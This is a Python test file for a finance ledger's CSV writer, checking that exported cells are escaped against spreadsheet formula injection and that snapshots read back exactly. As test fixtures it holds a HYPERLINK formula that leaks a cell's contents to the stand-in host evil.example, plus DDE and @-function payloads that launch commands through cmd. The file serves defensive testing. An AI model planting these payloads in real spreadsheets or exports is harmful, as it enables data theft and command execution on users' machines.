"""Every CSV the ledger writes is safe to open in a spreadsheet (CWE-1236): no
cell starts with a formula trigger, read back with the csv module; and the
files the ledger reads back itself (the nightly snapshot) round-trip exactly.

The three payloads are the issue's: a HYPERLINK that exfiltrates a neighbouring
cell, a DDE command, an @-function."""

from __future__ import annotations

import csv
import io
import json
from datetime import date

from hypothesis import given, settings
from hypothesis import strategies as st

from ledger.finance import csv_cells, snapshot
from ledger.finance.job import write_reports
from ledger.finance.sources import CsvSource, write_csv
from ledger.finance.transactions import COLUMNS, Txn

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"点击")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
# Every trigger, alone and behind blanks, and values that look like them but are not.
EDGES = ["-5", " =1+1", "\t=1", "\r=1", "\n=1", "\x00x", "'already quoted", "''", "'", "", "x=1", "５", "\u3000=1"]


def _starts_safe(cell: str) -> bool:
    return cell[:1] not in csv_cells.TRIGGERS and cell.lstrip()[:1] not in csv_cells.TRIGGERS


def _read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _read_file(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:  # newline="": a CR inside a cell stays a CR
        return list(csv.reader(f))


def test_the_payloads_are_written_inert_and_read_back_exactly():
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_cells.escape_row(PAYLOADS + EDGES))
    [row] = _read(buf.getvalue())
    assert all(_starts_safe(c) for c in row), row
    assert row[:3] == ["'" + p for p in PAYLOADS]
    assert [csv_cells.unescape(c) for c in row] == PAYLOADS + EDGES
    assert row[PAYLOADS.__len__() + EDGES.index("x=1")] == "x=1"  # a trigger later in the cell is harmless


@settings(max_examples=100, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=6))
def test_any_text_is_written_inert_and_unescapes_to_itself(cells):
    buf = io.StringIO()
    csv.writer(buf).writerow(csv_cells.escape_row(cells))
    [row] = _read(buf.getvalue())
    assert all(_starts_safe(c) for c in row)
    assert [csv_cells.unescape(c) for c in row] == cells


# Characters around the rule's edges: triggers, blanks of every kind, the separator the fast path joins with.
edgy = st.text(alphabet=st.sampled_from(list("=+-@'\t\r\n\x00\x1f\x1c \u3000\u00a0ab1")) | st.characters(), max_size=6)


@settings(max_examples=300, deadline=None)
@given(st.lists(edgy, min_size=1, max_size=9))
def test_the_fast_path_for_whole_rows_escapes_as_cell_by_cell(cells):
    assert list(csv_cells.escape_texts(tuple(cells))) == csv_cells.escape_row(cells)


def _report(values: list[str]) -> dict:
    findings = [{"kind": "invalid_row", "txn_id": v, "grant_ref": v, "subject": None, "seqs": [1, 2],
                 "amounts": {"line": 1, "amount_fen": -5}, "message": v} for v in values]
    return {"format": "t", "as_of": "2026-01-20", "tree_size": 3, "source": "csv:x.csv",
            "input": {"rows": 1, "fingerprint": "1:0"}, "unpaid_days": 90, "counts": {"invalid_row": 1},
            "findings": findings}


@settings(max_examples=50, deadline=None)
@given(st.lists(st.one_of(st.sampled_from(PAYLOADS + EDGES), st.text()), min_size=1, max_size=5))
def test_findings_csv_never_starts_a_cell_with_a_trigger(tmp_path_factory, values):
    out = tmp_path_factory.mktemp("r") / "reconciliation-2026-01-20"
    report = _report(values)
    write_reports(out, report, json.dumps(report).encode())
    rows = _read_file(out / "findings.csv")
    assert rows[0] == ["kind", "txn_id", "grant_ref", "subject", "seqs", "amounts", "message"]
    assert all(_starts_safe(c) for r in rows for c in r)
    assert [csv_cells.unescape(r[1]) for r in rows[1:]] == values  # a reader recovers the value
    assert sorted(p.name for p in out.iterdir()) == ["findings.csv", "report.json", "summary.html"]


def test_the_snapshot_is_inert_and_reads_back_exactly(tmp_path):
    rows = [(p, "payment", "", "-g", "@s", "+1", "-5", "2026-01-05", "=p") for p in PAYLOADS]
    rows.append(("T1", "payment", None, "g", "cn-rid", "1", "100", "2026-01-05", "'quoted"))
    path = tmp_path / "funding.csv"
    with path.open("w", newline="", encoding="utf-8") as f:
        assert snapshot.write(f, rows) == len(rows)
    written = _read_file(path)
    assert written[0] == list(COLUMNS) and all(_starts_safe(c) for r in written for c in r)
    back = list(snapshot.SnapshotSource(path, "csv:original.csv").rows())
    assert back == [tuple("" if v is None else v for v in r) for r in rows]  # None comes back as "", as in a CSV


def test_the_demo_funding_file_is_inert_and_reads_back_as_written(tmp_path):
    txns = [Txn("P1", "payment", "", "NMG-1", "cn-rid", "150102199001010019", 100, date(2026, 1, 5), "草原英才"),
            Txn("X-1", "reversal", "P1", "", "", "", 100, date(2026, 1, 6), "草原英才")]
    write_csv(tmp_path / "funding.csv", txns)
    assert list(CsvSource(tmp_path / "funding.csv").rows()) == [
        ("P1", "payment", "", "NMG-1", "cn-rid", "150102199001010019", "100", "2026-01-05", "草原英才"),
        ("X-1", "reversal", "P1", "", "", "", "100", "2026-01-06", "草原英才")]
    # A funding system's file is read literally: a formula-like value keeps the quote it was written with.
    write_csv(tmp_path / "evil.csv", [Txn(PAYLOADS[0], "payment", "", "g", "s", "i", 1, date(2026, 1, 5), "p")])
    assert _read_file(tmp_path / "evil.csv")[1][0] == "'" + PAYLOADS[0]
